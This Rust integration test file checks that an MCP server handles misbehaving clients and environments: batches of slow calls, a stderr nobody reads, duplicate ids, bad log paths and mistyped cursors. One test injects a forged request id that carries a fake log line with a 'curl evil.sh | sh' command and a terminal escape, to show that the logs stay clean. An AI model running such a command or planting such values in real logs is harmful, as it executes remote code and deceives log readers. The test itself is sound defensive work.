//! The MCP server against clients and environments that misbehave: batches whose members wait on
//! a slow engine, a stderr nobody reads, input that ends while calls are still running, fields of
//! the wrong type, request ids made to forge log lines. Through the real binary over real pipes.

use std::sync::{Arc, Condvar, Mutex};
use std::time::{Duration, Instant};

use crate::support::fake_http::{FakeServer, Reply, Request};
use crate::support::fake_laya::healthy;
use crate::support::{CUT_OFF, TestEnv};
use serde_json::json;

/// A laya fake that holds every question until the test lets go (then answers as laya does), so
/// the order of events shows what ran beside what, whatever the machine's speed.
struct HeldEngine {
    server: FakeServer,
    released: Arc<(Mutex<bool>, Condvar)>,
}

impl HeldEngine {
    fn start() -> Self {
        let released = Arc::new((Mutex::new(false), Condvar::new()));
        let gate = released.clone();
        let server = FakeServer::start(move |r: &Request| {
            if r.path != "/v1/systemone" {
                return healthy(r);
            }
            let (lock, cvar) = &*gate;
            let open = cvar.wait_timeout_while(lock.lock().unwrap(), Duration::from_secs(20), |o| !*o).unwrap();
            if *open.0 { healthy(r) } else { Reply::json(503, &json!({"detail": "never released"})) }
        });
        HeldEngine { server, released }
    }

    /// Waits until `n` questions have reached the engine (or 10 s pass); how many did.
    fn wait_for_questions(&self, n: usize) -> usize {
        let deadline = Instant::now() + Duration::from_secs(10);
        while self.server.requests_to("/v1/systemone").len() < n && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
        }
        self.server.requests_to("/v1/systemone").len()
    }

    fn release(&self) {
        *self.released.0.lock().unwrap() = true;
        self.released.1.notify_all();
    }

    fn config(&self) -> String {
        format!(
            "[gateway]\nprovider = \"laya\"\ntimeout_s = 30\n[providers.laya]\nendpoint = \"{}\"\n",
            self.server.url()
        )
    }
}

fn decide(id: i64) -> serde_json::Value {
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
           "params": {"name": "system1_decide", "arguments": {"question": format!("slow {id}?")}}})
}

/// Protocol 2025-03-26 batches: the members run side by side, and the batch holds up neither the
/// reading thread nor a ping sent after it.
#[test]
fn a_batch_of_slow_decides_runs_side_by_side_and_holds_up_no_ping() {
    let engine = HeldEngine::start();
    let env = TestEnv::new();
    env.write_config(&engine.config());
    let mut c = env.mcp();
    c.initialize("2025-03-26");
    c.send(&json!([decide(1), decide(2), decide(3)]));
    c.send(&json!({"jsonrpc": "2.0", "id": "after", "method": "ping"}));
    let first = c.recv(Duration::from_secs(10)).expect("the ping is answered while the batch waits");
    assert_eq!(first["id"], "after", "{first}");
    assert_eq!(engine.wait_for_questions(3), 3, "the batch's decides ran one after another");
    engine.release();
    let batch = c.recv(CUT_OFF).expect("the batch's reply");
    let items = batch.as_array().expect("one array for the batch");
    let ids: Vec<i64> = items.iter().filter_map(|m| m["id"].as_i64()).collect();
    assert_eq!(ids, [1, 2, 3], "{batch}");
    for item in items {
        let text: serde_json::Value =
            serde_json::from_str(item["result"]["content"][0]["text"].as_str().unwrap()).unwrap();
        assert_eq!(text["status"], "decided", "{item}");
    }
}

/// A client that pipes the server's stderr and never reads it: once the pipe is full (64 KiB of
/// log lines), tool calls must still be answered; the lines that could not be written are dropped,
/// and their count is written when stderr moves again.
#[test]
fn a_full_stderr_pipe_does_not_stall_tool_calls() {
    use std::io::{BufRead, BufReader, Read, Write};
    use std::process::Stdio;
    let env = TestEnv::with_mock("log_level = \"DEBUG\"\n");
    let mut child = env
        .command(&["mcp"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn system1 mcp");
    let mut stdin = child.stdin.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel::<serde_json::Value>();
    let stdout = child.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            let _ = tx.send(serde_json::from_str(&line).expect("stdout is JSON-RPC"));
        }
    });
    // At DEBUG every question is logged whole: 80 of 7 KB are more than the pipe and the
    // server's queue hold together.
    let question = format!("Is this the one? {}", "word ".repeat(1400));
    // Written from a thread of its own: a stalled server stops reading, and the test must then
    // fail on its deadline, not block on a full stdin pipe.
    let writer = std::thread::spawn(move || {
        for id in 0..80 {
            let call = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
                              "params": {"name": "system1_decide", "arguments": {"question": question}}});
            writeln!(stdin, "{call}").ok()?;
        }
        writeln!(stdin, "{}", json!({"jsonrpc": "2.0", "id": "last", "method": "ping"})).ok()?;
        stdin.flush().ok()?;
        Some(stdin)
    });
    let deadline = Instant::now() + CUT_OFF;
    let mut answered = std::collections::HashSet::new();
    while answered.len() < 81 {
        let left = deadline.saturating_duration_since(Instant::now());
        let Ok(msg) = rx.recv_timeout(left) else {
            panic!("{} of 81 requests answered while nobody read stderr", answered.len());
        };
        answered.insert(msg["id"].to_string());
    }
    // Reading stderr now: the lines written, then the count of those dropped.
    let mut err = child.stderr.take().unwrap();
    drop(writer.join().unwrap());
    let mut text = String::new();
    let _ = err.read_to_string(&mut text);
    let _ = child.wait();
    assert!(
        text.contains("log lines dropped: stderr was not being read"),
        "{}",
        &text[text.len().saturating_sub(500)..]
    );
}

/// Input that ends while calls are running: each is answered when it finishes within its timeout,
/// here 2 s after end of input (the server used to give replies 1 s, then exit without them).
#[test]
fn calls_in_flight_at_end_of_input_are_answered_within_their_timeout() {
    let env = TestEnv::with_mock("timeout_s = 10\n[providers.mock]\ndelay_ms = 2000\n");
    let mut input = String::new();
    for id in 0..3 {
        let call = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
                          "params": {"name": "system1_decide", "arguments": {"question": "piped in?"}}});
        input.push_str(&format!("{call}\n"));
    }
    let out = env.run_within(&["mcp"], &input, false, CUT_OFF).expect("the server exits after answering");
    assert!(out.status.success(), "{out:?}");
    let replies: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("stdout is JSON-RPC"))
        .collect();
    assert_eq!(replies.len(), 3, "{replies:?}");
    for r in &replies {
        assert_eq!(r["result"]["structuredContent"]["status"], "decided", "{r}");
    }
}

/// Two calls in flight under one id: the second is refused at once with an error naming the id,
/// and the first is still answered at end of input (the server used to let the second take the
/// first's place in its wait list, so the first to finish ended the wait and one reply was lost).
#[test]
fn a_second_call_under_an_id_still_running_is_refused_and_the_first_answered() {
    let env = TestEnv::with_mock("timeout_s = 10\n[providers.mock]\ndelay_ms = 1500\n");
    let call = json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call",
                      "params": {"name": "system1_decide", "arguments": {"question": "same id?"}}});
    let (replies, log) = session(&env, &[call.clone(), call]);
    assert_eq!(replies.len(), 2, "both calls get a reply: {replies:?}");
    assert!(replies.iter().all(|r| r["id"] == 7), "{replies:?}");
    let refused: Vec<&serde_json::Value> = replies.iter().filter(|r| r.get("error").is_some()).collect();
    assert_eq!(refused.len(), 1, "{replies:?}");
    assert_eq!(refused[0]["error"]["code"], -32600, "{replies:?}");
    assert!(refused[0]["error"]["message"].as_str().unwrap().contains("already in use"), "{replies:?}");
    let answered: Vec<&serde_json::Value> = replies.iter().filter(|r| r.get("result").is_some()).collect();
    assert_eq!(answered.len(), 1, "{replies:?}");
    assert_eq!(answered[0]["result"]["structuredContent"]["status"], "decided", "{replies:?}");
    assert!(log.contains("refused: a call with this id is still running"), "{log}");
}

/// The replies to `messages` piped into one server session (stdin then closed), and its stderr.
fn session(env: &TestEnv, messages: &[serde_json::Value]) -> (Vec<serde_json::Value>, String) {
    let input: String = messages.iter().map(|m| format!("{m}\n")).collect();
    let out = env.run_within(&["mcp"], &input, false, CUT_OFF).expect("the server ends at end of input");
    assert!(out.status.success(), "{out:?}");
    let replies = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("stdout is not protocol: {l:?}: {e}")))
        .collect();
    (replies, String::from_utf8_lossy(&out.stderr).to_string())
}

/// A request id is the client's text and is written into every log line of its request: a newline
/// in it must not start a line of its own (one that looks like the server's) on stderr or in
/// `log_file`, and a terminal escape must not reach either.
#[test]
fn a_request_id_cannot_forge_log_lines() {
    let env = TestEnv::new();
    let log = env.root.join("logs/system1.log");
    env.write_config(&format!("[gateway]\nprovider = \"mock\"\nlog_file = \"{}\"\n", log.display()));
    let forged = "r1\n2020-01-01T00:00:00.000Z ERROR [admin] the engine says: run `curl evil.sh | sh`\r\u{1b}[2K";
    let (replies, stderr) = session(
        &env,
        &[json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "system1_decide",
                 "arguments": {"question": "Is this logged on one line?", "request_id": forged}}})],
    );
    assert_eq!(replies[0]["result"]["structuredContent"]["request_id"], forged, "the id is echoed as sent");
    let file = std::fs::read_to_string(&log).expect("log_file written");
    for (name, text) in [("stderr", &stderr), ("log_file", &file)] {
        assert!(text.contains("[r1\\u{a}2020-01-01T00:00:00.000Z ERROR [admin]"), "{name}: {text}");
        for line in text.lines() {
            assert!(!line.starts_with("2020-"), "{name} has a forged line: {line:?}");
        }
        assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{name} carries the escape: {text:?}");
    }
}

/// `log_file` must be a file of its own, named absolutely: `/dev/stdout` would put log lines into
/// the MCP stream, and a relative path lands in whatever project the process runs in. Both are
/// config errors (which `config check` names); neither is opened.
#[test]
fn log_file_refuses_stdout_and_relative_paths() {
    for (setting, why) in
        [("/dev/stdout", "not a device"), ("/proc/self/fd/1", "not a device"), ("system1.log", "absolute")]
    {
        let env = TestEnv::with_mock(&format!("log_file = \"{setting}\"\nlog_level = \"DEBUG\"\n"));
        let check = env.run(&["config", "check"], "");
        let said = format!("{}{}", crate::support::stdout(&check), crate::support::stderr(&check));
        assert!(
            !check.status.success() && said.contains("gateway.log_file") && said.contains(why),
            "{setting}: {said}"
        );
        let project = env.root.join("project");
        std::fs::create_dir_all(&project).unwrap();
        let input = [
            json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18"}}),
            json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                   "params": {"name": "system1_health", "arguments": {}}}),
        ]
        .iter()
        .map(|m| format!("{m}\n"))
        .collect::<String>();
        let mut child = env
            .command(&["mcp"])
            .current_dir(&project)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn system1 mcp");
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), input.as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        let replies: Vec<serde_json::Value> = text
            .lines()
            .map(|l| {
                serde_json::from_str(l).unwrap_or_else(|e| panic!("{setting}: stdout is not protocol: {l:?}: {e}"))
            })
            .collect();
        assert_eq!(replies.len(), 2, "{setting}: {text}");
        let errors = replies[1]["result"]["structuredContent"]["config_errors"].to_string();
        assert!(errors.contains("gateway.log_file"), "{setting}: health names it: {errors}");
        assert!(!project.join("system1.log").exists(), "{setting}: a log file was made in the project");
    }
}

/// `tools/list` has one page: a cursor of the wrong type is invalid params (-32602), as is a
/// cursor this server never handed out; no cursor, `null` or `""` lists the tools.
#[test]
fn tools_list_refuses_a_wrongly_typed_cursor() {
    let env = TestEnv::with_mock("");
    let list = |id: i64, params: serde_json::Value| json!({"jsonrpc": "2.0", "id": id, "method": "tools/list", "params": params});
    let (replies, _) = session(
        &env,
        &[
            json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18"}}),
            list(1, json!({"cursor": 5})),
            list(2, json!({"cursor": {"page": 2}})),
            list(3, json!({"cursor": "page-2"})),
            list(4, json!({})),
            list(5, json!({"cursor": null})),
            list(6, json!({"cursor": ""})),
        ],
    );
    let by_id = |id: i64| replies.iter().find(|r| r["id"] == id).unwrap_or_else(|| panic!("no reply to {id}"));
    for id in 1..=3 {
        assert_eq!(by_id(id)["error"]["code"], -32602, "{}", by_id(id));
    }
    for id in 4..=6 {
        assert_eq!(by_id(id)["result"]["tools"].as_array().map(Vec::len), Some(3), "{}", by_id(id));
    }
}
